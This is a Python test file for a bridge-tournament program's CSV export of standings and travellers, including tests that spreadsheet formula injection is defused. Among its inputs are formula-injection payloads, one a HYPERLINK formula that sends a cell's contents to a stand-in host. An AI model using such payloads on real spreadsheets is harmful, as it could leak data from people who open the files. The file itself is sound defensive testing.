import csv
import io
from fractions import Fraction

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from msgspec.structs import replace

from daemon.publish.csv_files import standings_csv, travellers_csv
from daemon.tournament.results import Ranking, Results, Row

STANDINGS = (
    "\ufefflist,section,direction,rank,tied,contestant,name1,name2,"
    "boards,total,maximum,percent,average\r\n"
    "A,A,NS,1,no,1,Ada Voss,Bob Stein,2,6.40,8.00,80.00,3.20\r\n"
    "A,A,NS,2,yes,2,Cleo de Vries,Dirk Ångström,1,1.00,4.00,25.00,1.00\r\n"
    "A,A,NS,2,yes,3,Elsa Rossi,Finn O'Hara,1,1.00,4.00,25.00,1.00\r\n"
    "A,A,EW,1,no,5,Ida Peeters,Jules Bianchi,2,4.78,8.00,59.72,2.39\r\n"
    "A,A,EW,,no,7,,,0,0.00,0.00,,0.00\r\n"
)
TRAVELLERS = (
    "\ufeffsection,board,dealer,vulnerable,round,table,ns,ns_names,ew,ew_names,contract,declarer,"
    "lead,result,score,ns_points,ew_points,status,award,sources,device,flags\r\n"
    "A,1,N,None,1,1,1,Ada Voss & Bob Stein,4,,2H,W,SJ,1,-140,0.33,3.67,scored,,"
    "OUT_1.txt,tablet-1,score-mismatch\r\n"
    "A,1,N,None,1,2,2,Cleo de Vries & Dirk Ångström,5,Ida Peeters & Jules Bianchi,"
    "4SX,N,H10,0,590,4.00,0.00,scored,,OUT_2.txt OUT_2_copy.txt,tablet-2,\r\n"
    "A,1,N,None,1,3,3,Elsa Rossi & Finn O'Hara,6,,Pass,,,,0,2.00,2.00,scored,,OUT_3.txt,,\r\n"
    "A,2,E,NS,2,1,1,Ada Voss & Bob Stein,5,Ida Peeters & Jules Bianchi,"
    ",,,,,2.40,1.60,adjusted,60 % / 40 %,,,\r\n"
    "A,2,E,NS,2,2,2,Cleo de Vries & Dirk Ångström,6,,,,,,,,,missing,,,,\r\n"
    "A,2,E,NS,2,3,3,Elsa Rossi & Finn O'Hara,4,,3NT,E,SA,-1,50,,,held,,OUT_3.txt,,"
    "result-conflict\r\n"
)


def test_the_whole_standings(evening: Results) -> None:
    assert standings_csv(evening) == STANDINGS


def test_the_whole_travellers(evening: Results) -> None:
    assert travellers_csv(evening) == TRAVELLERS


def test_a_line_without_a_round_leaves_the_cell_empty(evening: Results) -> None:
    line = replace(evening.travellers[0].lines[2], round=None)
    board = replace(evening.travellers[0], lines=(line,))
    rows = _rows(travellers_csv(replace(evening, travellers=(board,))))
    assert rows[1][4:7] == ["", "3", "3"]


def test_imps_leave_maximum_and_percentage_empty(evening: Results) -> None:
    row = replace(evening.rankings[0].rows[0], total=Fraction(-5), maximum=None, percent=None)
    rows = _rows(standings_csv(_with_rows(evening, row)))
    assert rows[1][8:] == ["2", "-5.00", "", "", "3.20"]


def test_lists_of_groups_and_datums_have_columns_where_there_are_any(evening: Results) -> None:
    first, *others = evening.rankings
    red = replace(first, name="A NS Red", group="=Red", rows=first.rows[:1])
    heading, *rows = _rows(standings_csv(replace(evening, rankings=(first, red, *others))))
    assert heading[-1] == "group"
    assert [row[-1] for row in rows] == ["", "", "", "'=Red", "", ""]
    board, other = evening.travellers
    line = replace(board.lines[0], ns_datum=Fraction(190), ew_datum=Fraction(-190))
    butler = replace(evening, travellers=(replace(board, lines=(line,)), other))
    heading, first_row, second_row, *_ = _rows(travellers_csv(butler))
    assert heading[-2:] == ["ns_datum", "ew_datum"]
    assert first_row[-2:] == ["190.00", "-190.00"]
    assert second_row[-2:] == ["", ""]


def test_more_than_two_names_get_more_columns(evening: Results) -> None:
    team = replace(evening.rankings[0].rows[0], names=("Ada", "Bob", "Cleo"))
    pair = evening.rankings[0].rows[1]
    rows = _rows(standings_csv(_with_rows(evening, team, pair)))
    assert [row[6:9] for row in rows] == [
        ["name1", "name2", "name3"],
        ["Ada", "Bob", "Cleo"],
        ["Cleo de Vries", "Dirk Ångström", ""],
    ]


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "\t'=1"),
        ("  =1", "  '=1"),
        ("＝1+1", "'＝1+1"),
        ('=HYPERLINK("http://example.invalid?"&A1)', '\'=HYPERLINK("http://example.invalid?"&A1)'),
        # A spreadsheet that splits at semicolons overlooks our quotes.
        ("Ada;=1+1", "Ada;'=1+1"),
        ("Ada\n=1+1", "Ada\n'=1+1"),
        ("Ada;=1;-1", "Ada;'=1;'-1"),
    ],
)
def test_a_name_is_never_a_formula(evening: Results, name: str, cell: str) -> None:
    row = replace(evening.rankings[0].rows[0], names=(name,))
    assert _rows(standings_csv(_with_rows(evening, row)))[1][6] == cell


@pytest.mark.parametrize("name", ["Jan-Willem d'Acosta", "Ada, Voss", 'Bob "Bobby" Stein', "a=b"])
def test_an_honest_name_stays_as_it_is(evening: Results, name: str) -> None:
    row = replace(evening.rankings[0].rows[0], names=(name,))
    assert _rows(standings_csv(_with_rows(evening, row)))[1][6] == name


def test_whatever_else_was_written_elsewhere_is_no_formula_either(evening: Results) -> None:
    line = replace(
        evening.travellers[0].lines[0], sources=("=a",), device="=b", award="=c", flags=("=d",)
    )
    board = replace(evening.travellers[0], section="=e", lines=(line,))
    cells = _rows(travellers_csv(replace(evening, travellers=(board,))))[1]
    assert [cell for cell in cells if "=" in cell] == ["'=e", "'=c", "'=a", "'=b", "'=d"]
    ranking = replace(evening.rankings[0], name="=f")
    assert _rows(standings_csv(replace(evening, rankings=(ranking,))))[1][0] == "'=f"


@given(names=st.lists(st.text(), min_size=2, max_size=3))
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_names_survive_but_for_the_apostrophes_that_defuse_them(
    evening: Results, names: list[str]
) -> None:
    row = replace(evening.rankings[0].rows[0], names=tuple(names))
    cells = _rows(standings_csv(_with_rows(evening, row)))[1][6 : 6 + len(names)]
    assert [cell.replace("'", "") for cell in cells] == [name.replace("'", "") for name in names]


@given(name=st.text(st.characters()))
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_name_can_be_written_as_utf_8_and_starts_no_formula(
    evening: Results, name: str
) -> None:
    row = replace(evening.rankings[0].rows[0], names=(name,))
    text = standings_csv(_with_rows(evening, row)).encode("utf-8").decode("utf-8-sig")
    for separator in (",", ";"):
        for cells in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            assert not any(cell.strip().startswith(("=", "+", "-", "@")) for cell in cells)


def _with_rows(results: Results, *rows: Row) -> Results:
    return replace(results, rankings=(Ranking("A", "A", None, rows),))


def _rows(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))
